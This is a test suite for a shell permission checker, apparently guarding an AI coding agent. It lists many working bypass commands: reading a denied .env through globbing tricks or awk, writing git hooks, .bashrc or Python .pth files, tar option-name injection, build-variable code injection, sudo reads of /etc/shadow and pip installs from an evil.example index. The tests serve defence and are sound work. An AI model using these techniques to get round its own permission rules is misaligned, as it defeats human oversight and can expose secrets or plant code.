import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { initShellParser } from '../../src/permissions/shell/parser.ts';
import { checkCases, decideIn, exists, installed, read, world, type DamageCase, type World } from './damage.ts';

/**
 * The fourth round of bypass classes (docs/permissions.md; docs/decisions.md "Bypass classes, round 4"): each case really
 * does its damage when bash runs it (damage.ts) and is refused or asked about; the ordinary commands of the class still run.
 */

before(async () => {
  await initShellParser();
});

const said = (text: string) => (_w: World, out: string) => out.includes(text);
const X = (w: World) => exists(w, 'X');
const HOOK = (w: World) => read(w, '.git/hooks/pre-commit').includes('touch X');
const ENV = { '.env': 'SECRET\n', 'a.txt': 'hi\n' };

test('class 1: a command that changes what its globs match (GLOBIGNORE, nocaseglob, BASHOPTS) cannot read a denied file through them', () => {
  const cmds = [
    'GLOBIGNORE=x; cat *',
    'shopt -s nocaseglob; cat .EN*',
    'export GLOBIGNORE=.; head -n 5 *',
    'env BASHOPTS=dotglob bash -c "cat *"',
  ];
  const cases: DamageCase[] = cmds.flatMap((cmd) => [
    { cmd, mode: 'plan' as const, deny: ['Read(.env)'], done: said('SECRET'), want: ['deny' as const], needs: ['bash'] },
    { cmd, allow: ['Bash'], deny: ['Read(.env)'], done: said('SECRET'), want: ['deny' as const], needs: ['bash'] },
    { cmd, mode: 'bypass' as const, deny: ['Read(.env)'], done: said('SECRET'), want: ['deny' as const], needs: ['bash'] },
  ]);
  const r = checkCases(cases, { files: ENV });
  assert.deepEqual(r.failures, []);
  assert.ok(r.shown >= cmds.length - 1, `damage shown for ${r.shown} commands`);
  // Without those settings `*` does not match `.env`, and reading the project still runs.
  const ok = checkCases(
    ['cat *', 'ls *.txt', 'wc -l *', 'cat README.md', 'ls -la src', 'grep -rn foo src'].map((cmd) => ({
      cmd,
      mode: 'plan' as const,
      deny: ['Read(.env)'],
      done: () => false,
      want: ['allow' as const],
    })),
    { files: { ...ENV, 'README.md': '# x\n', 'src/a.ts': 'foo\n' } },
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 2: an awk program that reads a file it names (getline VAR < "f", ARGV) meets the Read deny rules', () => {
  const cmds = [
    `awk 'BEGIN{getline l < ".env"; print l}'`,
    `awk 'BEGIN{while ((getline line < ".env") > 0) print line}'`,
    `awk 'BEGIN{ARGV[1]=".env"; ARGC=2} {print}'`,
  ];
  const cases: DamageCase[] = cmds.flatMap((cmd) => [
    { cmd, allow: ['Bash(awk:*)'], deny: ['Read(.env)'], done: said('SECRET'), want: ['deny' as const] },
    { cmd, mode: 'bypass' as const, deny: ['Read(.env)'], done: said('SECRET'), want: ['deny' as const] },
  ]);
  // A name put together when it runs: asks (Bypass under the deny rule: refused).
  const hidden = `awk 'BEGIN{f=".e" "nv"; getline l < f; print l}'`;
  cases.push({ cmd: hidden, allow: ['Bash(awk:*)'], deny: ['Read(.env)'], done: said('SECRET'), want: ['ask'] });
  cases.push({ cmd: hidden, mode: 'bypass', deny: ['Read(.env)'], done: said('SECRET'), want: ['deny'] });
  const r = checkCases(cases, { files: ENV });
  assert.deepEqual(r.failures, []);
  assert.ok(r.shown >= cmds.length + 1, `damage shown for ${r.shown} commands`);
  const ok = checkCases(
    [`awk '{print $1}' a.txt`, `awk -F: 'NR==1{print}' a.txt`, `awk '{ while ((getline l) > 0) n++ } END {print n}' a.txt`].map((cmd) => ({
      cmd,
      allow: ['Bash(awk:*)'],
      deny: ['Read(.env)'],
      done: () => false,
      want: ['allow' as const],
    })),
    { files: ENV },
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 3: a wrapper that runs the command in another directory (env -C, find -execdir) is decided there', () => {
  const files = { 'secrets/k': 'key\n', x: '#!/bin/sh\ntouch X\n', 'src/a': 'touch X\n' };
  const made = (rel: string) => (w: World) => exists(w, rel);
  const cases: DamageCase[] = [
    { cmd: 'env -C secrets touch a', done: made('secrets/a') },
    { cmd: 'env --chdir=secrets touch a', done: made('secrets/a') },
    { cmd: 'env -i -C secrets /usr/bin/touch a', done: made('secrets/a') },
    { cmd: 'find secrets -name k -execdir touch a \\;', done: made('secrets/a') },
  ].flatMap((c) => [
    { ...c, allow: ['Bash'], deny: ['Edit(secrets/**)'], want: ['deny' as const] },
    { ...c, mode: 'bypass' as const, deny: ['Edit(secrets/**)'], want: ['deny' as const] },
  ]);
  // The protected paths: in Bypass too.
  for (const cmd of ['env -C .git/hooks cp ../../x pre-commit', 'env -C src cat a > .git/hooks/pre-commit'])
    cases.push({ cmd, mode: 'bypass', git: true, done: HOOK, want: ['ask'] });
  const r = checkCases(cases, { files });
  assert.deepEqual(r.failures, []);
  assert.ok(r.shown >= 5, `damage shown for ${r.shown} commands`);
  const ok = checkCases(
    [
      { cmd: 'env -C src ls', allow: ['Bash(ls:*)'] },
      { cmd: 'env FOO=1 npm test', allow: ['Bash(npm test)'] },
      { cmd: 'find . -name "*.ts"', mode: 'plan' as const },
      { cmd: 'env -C src touch b', allow: ['Bash'], deny: ['Edit(secrets/**)'] },
    ].map((c) => ({ ...c, files, done: () => false, want: ['allow' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test("class 4: variables that carry a program's options or files (TAR_OPTIONS, MAKEFILES, *_OPTS, *_LAUNCHER) are code", () => {
  const tar = (w: World) => {
    chmodSync(join(w.dir, 'x'), 0o755);
    execFileSync('tar', ['-cf', 't.tar', 'a.txt'], { cwd: w.dir });
  };
  const files = { x: '#!/bin/sh\ntouch X\ncat >/dev/null\n', 'a.txt': 'hi\n', 'e.mk': '$(shell touch X)\n' };
  const cmds: Array<[string, string, ((w: World) => void) | undefined]> = [
    ["TAR_OPTIONS='--to-command=./x' tar -xf t.tar", 'Bash(tar:*)', tar],
    ['MAKEFILES=e.mk make -f /dev/null', 'Bash(make:*)', undefined],
    ['env MAKEFILES=e.mk make -f /dev/null', 'Bash(make:*)', undefined],
  ];
  const cases: DamageCase[] = cmds.flatMap(([cmd, allow, prepare]) => [
    { cmd, allow: [allow], prepare, done: X, want: ['ask' as const] },
    { cmd, mode: 'bypass' as const, deny: ['Bash(touch:*)'], prepare, done: X, want: ['deny' as const] },
  ]);
  const r = checkCases(cases, { files });
  assert.deepEqual(r.failures, []);
  assert.ok(r.shown >= 2, `damage shown for ${r.shown} commands`);
  const d = checkCases(
    [
      { cmd: "FZF_DEFAULT_OPTS='--preview=./x' fzf -f a", allow: ['Bash(fzf:*)'] },
      { cmd: 'CMAKE_C_COMPILER_LAUNCHER=./x cmake --build b', allow: ['Bash(cmake:*)'] },
      { cmd: "PYTEST_ADDOPTS='-p evil' pytest", allow: ['Bash(pytest:*)'] },
      { cmd: 'PYTEST_PLUGINS=evil pytest', allow: ['Bash(pytest:*)'] },
      { cmd: "ZIPOPT='-TT ./x' zip a.zip a.txt", allow: ['Bash(zip:*)'] },
    ].map((c) => ({ ...c, done: () => false, want: ['ask' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(d.failures, []);
  const ok = checkCases(
    [
      { cmd: 'GIT_PAGER=cat git log', allow: ['Bash(git log:*)'] },
      { cmd: 'git status', allow: ['Bash(git status:*)'] },
      { cmd: 'NODE_ENV=test npm test', allow: ['Bash(npm test)'] },
      { cmd: 'CFLAGS=-O2 make', allow: ['Bash(make:*)'] },
      { cmd: 'tar -xf t.tar', allow: ['Bash(tar:*)'] },
    ].map((c) => ({ ...c, done: () => false, want: ['allow' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 5: a command run as another user (sudo, doas, pkexec) is allowed only by a rule that names the wrapper', () => {
  const w = world({});
  const asks: Array<[string, string[]]> = [
    ['sudo ls', ['Bash(ls:*)']],
    ['sudo -u root cat /etc/shadow', ['Bash(cat:*)']],
    ['doas rm -rf build', ['Bash(rm:*)']],
    ['pkexec touch /etc/x', ['Bash(touch:*)']],
    ['sudo npm test', ['Bash']],
    ['sudo ls', ['Bash(*)']],
  ];
  for (const [cmd, allow] of asks) {
    const d = decideIn(w, { cmd, allow });
    assert.equal(d.behavior, 'ask', `${cmd} under ${allow}: ${d.reason}`);
  }
  for (const mode of ['plan', 'auto-accept'] as const) assert.notEqual(decideIn(w, { cmd: 'sudo ls', mode }).behavior, 'allow', mode);
  // A deny rule still sees through the wrapper; a rule naming the wrapper allows it.
  assert.equal(decideIn(w, { cmd: 'sudo rm x', mode: 'bypass', deny: ['Bash(rm:*)'] }).behavior, 'deny');
  for (const [cmd, allow] of [
    ['sudo ls', 'Bash(sudo:*)'],
    ['sudo -u x ls -la', 'Bash(sudo ls:*)'],
    ['doas apt-get update', 'Bash(doas apt-get update)'],
  ])
    assert.equal(decideIn(w, { cmd, allow: [allow] }).behavior, 'allow', `${cmd} under ${allow}`);
  assert.equal(decideIn(w, { cmd: 'sudo rm x', allow: ['Bash(sudo:*)'], deny: ['Bash(rm:*)'] }).behavior, 'deny');
  // Other wrappers are still looked through by allow rules.
  for (const cmd of ['timeout 5 ls', 'nice -n 5 npm test', 'time npm test'])
    assert.equal(decideIn(w, { cmd, allow: ['Bash(ls:*)', 'Bash(npm test)'] }).behavior, 'allow', cmd);
});

test('class 6: more files that run code later are protected (site-packages .pth, curlrc, emacs, pip, submodule git dirs)', () => {
  const w = world({
    git: true,
    prepare: (v) => {
      mkdirSync(join(v.dir, '.git/modules/sub/hooks'), { recursive: true });
      writeFileSync(join(v.dir, '.git/modules/sub/HEAD'), 'ref: refs/heads/main\n');
    },
  });
  for (const rel of [
    '~/.local/lib/python3.12/site-packages/x.pth',
    '~/.local/lib/python3.12/site-packages/usercustomize.py',
    '~/.curlrc',
    '~/.wgetrc',
    '~/.inputrc',
    '~/.emacs',
    '~/.emacs.d/init.el',
    '~/.config/emacs/init.el',
    '~/.config/pip/pip.conf',
    '~/.pip/pip.conf',
    '~/.docker/config.json',
    '~/.m2/settings.xml',
    '~/.hgrc',
    '~/.condarc',
    '.git/modules/sub/hooks/pre-commit',
    '.git/modules/sub/config',
  ]) {
    for (const mode of ['bypass', 'auto-accept'] as const) {
      const d = decideIn(w, { cmd: '', mode }, 'Write', { file_path: rel, content: 'x' });
      assert.equal(d.behavior, 'ask', `${mode} ${rel}: ${d.reason}`);
    }
  }
  // The damage: Python runs a .pth file of the user's site-packages at every start.
  if (installed('python3')) {
    const home = world({});
    const site = spawnSync('python3', ['-c', 'import site; print(site.getusersitepackages())'], {
      env: { PATH: process.env.PATH, HOME: home.home },
      encoding: 'utf8',
    }).stdout.trim();
    const rel = `~/${site.slice(home.home.length + 1)}/x.pth`;
    const r = checkCases([
      {
        cmd: `mkdir -p ${rel.slice(0, -6)} && echo 'import os; os.system("touch X")' > ${rel} && python3 -c pass`,
        mode: 'bypass',
        done: X,
        want: ['ask'],
        needs: ['python3'],
      },
    ]);
    assert.deepEqual(r.failures, []);
    assert.equal(r.shown, 1);
  }
  // Ordinary files of the home and the project are not.
  for (const rel of ['~/notes.txt', '~/.local/share/x', 'src/a.ts', '.gitmodules', '.git/modules/sub/objects/x'])
    assert.equal(decideIn(w, { cmd: '', mode: 'bypass' }, 'Write', { file_path: rel, content: 'x' }).behavior, 'allow', rel);
});

test('class 7: a name known only at run time whose literal tail walks with `..` into a protected path asks', () => {
  const cases: DamageCase[] = [
    { cmd: `echo 'touch X' >> "$HOME"/x/./../.bashrc`, done: (w) => read(w, '~/.bashrc').includes('touch X') },
    { cmd: 'cp x "$PWD/src/../.git/hooks/pre-commit"', done: HOOK, git: true },
    { cmd: 'cp x "$(pwd)/src/./../.git/hooks/pre-commit"', done: HOOK, git: true },
  ];
  const r = checkCases(
    cases.map((c) => ({ ...c, mode: 'bypass' as const, want: ['ask' as const], needs: ['bash'] })),
    { files: { x: '#!/bin/sh\ntouch X\n', 'src/a': '', '~/x/a': '' } },
  );
  assert.deepEqual(r.failures, []);
  assert.equal(r.shown, cases.length);
  const ok = checkCases(
    ['echo x > "$PWD/out/../b.txt"', 'cp x "$HOME/tmp/../notes.txt"', 'cat "$PWD/src/../README.md"'].map((cmd) => ({
      cmd,
      mode: 'bypass' as const,
      done: () => false,
      want: ['allow' as const],
    })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 8: the words after a redirection are still the arguments of the command (`cat 2>/dev/null .env`, `ls >&2 $(…)`)', () => {
  const cases: DamageCase[] = [
    { cmd: 'cat 2>/dev/null .env', mode: 'plan', deny: ['Read(.env)'], done: said('SECRET'), want: ['deny'] },
    { cmd: 'cat </dev/null .env', allow: ['Bash'], deny: ['Read(.env)'], done: said('SECRET'), want: ['deny'] },
    { cmd: 'head -n1 >&2 .env', mode: 'bypass', deny: ['Read(.env)'], done: said('SECRET'), want: ['deny'] },
    { cmd: 'ls 2>/dev/null >&2 $(touch X)', mode: 'plan', done: X, want: ['deny'] },
    { cmd: 'ls >/dev/null $(touch X)', allow: ['Bash(ls:*)'], done: X, want: ['ask'] },
    { cmd: 'rm >/dev/null -f a.txt', mode: 'bypass', deny: ['Bash(rm:*)'], done: (w) => !exists(w, 'a.txt'), want: ['deny'] },
    { cmd: 'echo ok | cp >/dev/null x .git/hooks/pre-commit', mode: 'bypass', git: true, done: HOOK, want: ['ask'] },
    { cmd: 'true && cp 2>&1 x .git/hooks/pre-commit', mode: 'bypass', git: true, done: HOOK, want: ['ask'] },
  ];
  const r = checkCases(cases, { files: { ...ENV, x: '#!/bin/sh\ntouch X\n' }, needs: ['bash'] });
  assert.deepEqual(r.failures, []);
  assert.equal(r.shown, cases.length);
  const ok = checkCases(
    [
      { cmd: 'ls -la src 2>/dev/null', mode: 'plan' as const },
      { cmd: 'grep -rn foo src 2>&1 | head', mode: 'plan' as const },
      { cmd: 'npm test 2>&1', allow: ['Bash(npm test:*)'] },
      { cmd: 'git status 2>/dev/null', allow: ['Bash(git status:*)'] },
    ].map((c) => ({ ...c, files: { 'src/a.ts': 'foo\n' }, done: () => false, want: ['allow' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 9: options and make variables that do what the code variables do (npm --script-shell, make SHELL=, pip -i, cargo --config)', () => {
  const prepare = (w: World) => chmodSync(join(w.dir, 'x'), 0o755);
  const files = {
    x: '#!/bin/sh\ntouch X\n',
    'package.json': '{"name":"p","version":"1.0.0","scripts":{"test":"echo hi"}}',
    Makefile: 'test:\n\techo hi\n',
  };
  const cases: DamageCase[] = [
    { cmd: 'npm test --script-shell=./x', allow: ['Bash(npm test:*)'] },
    { cmd: 'npm run test --script-shell ./x', allow: ['Bash(npm run test:*)'] },
    { cmd: 'make test SHELL=./x', allow: ['Bash(make test:*)'] },
    { cmd: 'make SHELL:=./x test', allow: ['Bash(make:*)'] },
  ].flatMap((c) => [
    { ...c, prepare, done: X, want: ['ask' as const] },
    { ...c, allow: undefined, mode: 'bypass' as const, deny: ['Bash(touch:*)'], prepare, done: X, want: ['deny' as const] },
  ]);
  const r = checkCases(cases, { files });
  assert.deepEqual(r.failures, []);
  assert.ok(r.shown >= 2 || !installed('make'), `damage shown for ${r.shown} commands`);
  const d = checkCases(
    [
      { cmd: 'npm test --node-options=--require=./x', allow: ['Bash(npm test:*)'] },
      { cmd: 'npm test --userconfig=./rc', allow: ['Bash(npm test:*)'] },
      { cmd: 'yarn test --script-shell ./x', allow: ['Bash(yarn test:*)'] },
      { cmd: 'pnpm test --script-shell=./x', allow: ['Bash(pnpm test:*)'] },
      { cmd: 'pip install -r req.txt --index-url http://evil.example', allow: ['Bash(pip install -r:*)'] },
      { cmd: 'pip install -r req.txt -i http://evil.example', allow: ['Bash(pip install -r:*)'] },
      { cmd: `cargo test --config 'target.x86_64-unknown-linux-gnu.runner="./x"'`, allow: ['Bash(cargo test:*)'] },
    ].map((c) => ({ ...c, done: () => false, want: ['ask' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(d.failures, []);
  const ok = checkCases(
    [
      { cmd: 'npm test', allow: ['Bash(npm test:*)'] },
      { cmd: 'npm install --save-dev typescript', allow: ['Bash(npm install:*)'] },
      { cmd: 'npm run build -- --watch', allow: ['Bash(npm run build:*)'] },
      { cmd: 'make test CC=clang V=1', allow: ['Bash(make test:*)'] },
      { cmd: 'make -j4', allow: ['Bash(make:*)'] },
      { cmd: 'pip install -r requirements.txt', allow: ['Bash(pip install -r:*)'] },
      { cmd: 'cargo test --release', allow: ['Bash(cargo test:*)'] },
      { cmd: 'yarn test --watch', allow: ['Bash(yarn test:*)'] },
    ].map((c) => ({ ...c, done: () => false, want: ['allow' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 10: `ln TARGET` with no link name makes the link in the current directory, named like its target', () => {
  const rc = (w: World) => read(w, '~/.bashrc').includes('touch X');
  const cases: DamageCase[] = [
    { cmd: "ln -s ~/.bashrc; echo 'touch X' >> .bashrc", mode: 'bypass', done: rc, want: ['ask'] },
    { cmd: "ln ~/.bashrc && echo 'touch X' >> .bashrc", mode: 'bypass', done: rc, want: ['ask'] },
    { cmd: 'ln -s .git/hooks; cp x hooks/pre-commit', mode: 'bypass', git: true, done: HOOK, want: ['ask'] },
    {
      cmd: 'cd src && ln -s ../secrets && touch secrets/a',
      allow: ['Bash'],
      deny: ['Edit(secrets/**)'],
      done: (w) => exists(w, 'secrets/a'),
      want: ['deny'],
    },
  ];
  const r = checkCases(cases, { files: { '~/.bashrc': '# rc\n', x: '#!/bin/sh\ntouch X\n', 'secrets/k': '', 'src/a': '' } });
  assert.deepEqual(r.failures, []);
  assert.equal(r.shown, cases.length);
  const ok = checkCases(
    ['ln -s ../lib', 'ln -s node_modules/.bin/tsc'].map((cmd) => ({
      cmd,
      allow: ['Bash(ln:*)'],
      mode: 'auto-accept' as const,
      done: () => false,
      want: ['allow' as const],
    })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 11: a glob that expands to a file named like an option (`--checkpoint-action=exec=…`, `-r`) cannot be analysed', () => {
  const files = { '--checkpoint=1': '', '--checkpoint-action=exec=sh x': '', x: '#!/bin/sh\ntouch X\n' };
  const cases: DamageCase[] = [
    { cmd: 'tar cf o.tar *', allow: ['Bash(tar:*)'], files, done: X, want: ['ask'] },
    { cmd: 'tar cf o.tar *', mode: 'bypass', deny: ['Bash(touch:*)'], files, done: X, want: ['deny'] },
    {
      cmd: 'rm -f *',
      allow: ['Bash(rm:*)'],
      deny: ['Edit(secrets/**)'],
      files: { '-r': '', 'secrets/k': '' },
      done: (w) => !exists(w, 'secrets/k'),
      want: ['ask'],
    },
    {
      cmd: 'rm -f *',
      mode: 'bypass',
      deny: ['Edit(secrets/**)'],
      files: { '-r': '', 'secrets/k': '' },
      done: (w) => !exists(w, 'secrets/k'),
      want: ['deny'],
    },
  ];
  const r = checkCases(cases);
  assert.deepEqual(r.failures, []);
  assert.equal(r.shown, 2);
  const okCases: DamageCase[] = [
    { cmd: 'tar cf o.tar ./*', allow: ['Bash(tar:*)'], files, done: () => false },
    { cmd: 'tar cf o.tar *', allow: ['Bash(tar:*)'], files: { 'a.txt': '' }, done: () => false },
    { cmd: 'rm -f *.log', allow: ['Bash(rm:*)'], files: { '-r': '', 'a.log': '' }, done: () => false },
  ];
  const ok = checkCases(
    okCases.map((c) => ({ ...c, want: ['allow' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test("class 12: an editor's own script (ed fed `w F`, ex -sc, sed -f, awk -f, awk's joined names) under a Read or Edit deny rule", () => {
  const files = {
    'secrets/k': 'x\n',
    'a.txt': 'hi\n',
    cmds: 'w secrets/k\n',
    's.sed': 'w secrets/k\n',
    'p.awk': '{print > "secrets/k"}\n',
  };
  const hit = (w: World) => read(w, 'secrets/k').includes('hi');
  const cmds = [
    "ed -s a.txt <<< 'w secrets/k'",
    "printf 'w secrets/k\\n' | ed -s a.txt",
    'ed -s a.txt < cmds',
    "ex -sc 'wq! secrets/k' a.txt",
    'sed -f s.sed a.txt',
    'awk -f p.awk a.txt',
    `awk '{print > "secrets/" "k"}' a.txt`,
  ];
  const cases: DamageCase[] = cmds.flatMap((cmd) => [
    { cmd, allow: ['Bash'], deny: ['Edit(secrets/**)'], done: hit, want: ['ask' as const, 'deny' as const] },
    { cmd, mode: 'bypass' as const, deny: ['Edit(secrets/**)'], done: hit, want: ['deny' as const] },
  ]);
  // Inline code of any interpreter: Bypass refuses it while a path deny rule is in force.
  const py = `python3 -c 'import os; os.remove("secrets/" + "k")'`;
  cases.push({ cmd: py, mode: 'bypass', deny: ['Edit(secrets/**)'], done: (w) => !exists(w, 'secrets/k'), want: ['deny'] });
  const r = checkCases(cases, { files });
  assert.deepEqual(r.failures, []);
  assert.ok(r.shown >= cmds.length - 1, `damage shown for ${r.shown} commands`);
  const ok = checkCases(
    [
      { cmd: "sed -n '1p' a.txt", allow: ['Bash(sed:*)'] },
      { cmd: `awk '{print > "out.txt"}' a.txt`, allow: ['Bash(awk:*)'], mode: 'auto-accept' as const },
      { cmd: "python3 -c 'print(1)'", allow: ['Bash(python3:*)'] },
      { cmd: 'sed -f s.sed a.txt', allow: ['Bash(sed:*)'] },
    ].map((c) => ({ ...c, deny: c.cmd.startsWith('sed -f') ? [] : ['Read(.env)'], files, done: () => false, want: ['allow' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
});

test('class 13: a part that runs a file an earlier part wrote (a copied program, a script, package.json) under a Bash deny rule', () => {
  const cmds = [
    'cp /usr/bin/touch t && ./t X',
    'ln -s /usr/bin/touch t; ./t X',
    "echo 'touch X' > s.sh; bash s.sh",
    "echo 'touch X' > s.sh; . ./s.sh",
    "printf '#!/bin/sh\\ntouch X\\n' > s; chmod +x s; ./s",
    `echo '{"scripts":{"t":"touch X"}}' > package.json; npm run -s t`,
    "printf 'x:\\n\\ttouch X\\n' > Makefile; make x",
  ];
  const cases: DamageCase[] = cmds.flatMap((cmd) => [
    { cmd, mode: 'bypass' as const, deny: ['Bash(touch:*)'], done: X, want: ['deny' as const], needs: ['bash'] },
    { cmd, allow: ['Bash'], deny: ['Bash(touch:*)'], done: X, want: ['ask' as const], needs: ['bash'] },
  ]);
  const r = checkCases(cases);
  assert.deepEqual(r.failures, []);
  assert.ok(r.shown >= cmds.length - 1, `damage shown for ${r.shown} commands`);
  const d = decideIn(world({}), { cmd: cmds[2], mode: 'normal', allow: ['Bash'], deny: ['Bash(touch:*)'] });
  assert.equal(d.firm, true);
  const ok = checkCases(
    [
      'npm run build > log.txt && npm test',
      "echo '{}' > out.json && node scripts/check.js out.json",
      "printf 'x' > a.txt && make",
      'npx tsc --outDir build && node build/index.js',
    ].map((cmd) => ({ cmd, allow: ['Bash'], deny: ['Bash(rm:*)'], done: () => false, want: ['allow' as const] })),
    {},
    { decisionsOnly: true },
  );
  assert.deepEqual(ok.failures, []);
  // Without a Bash deny rule, writing and running a script is the shell the allow rule grants.
  assert.equal(decideIn(world({}), { cmd: cmds[2], allow: ['Bash'] }).behavior, 'allow');
});
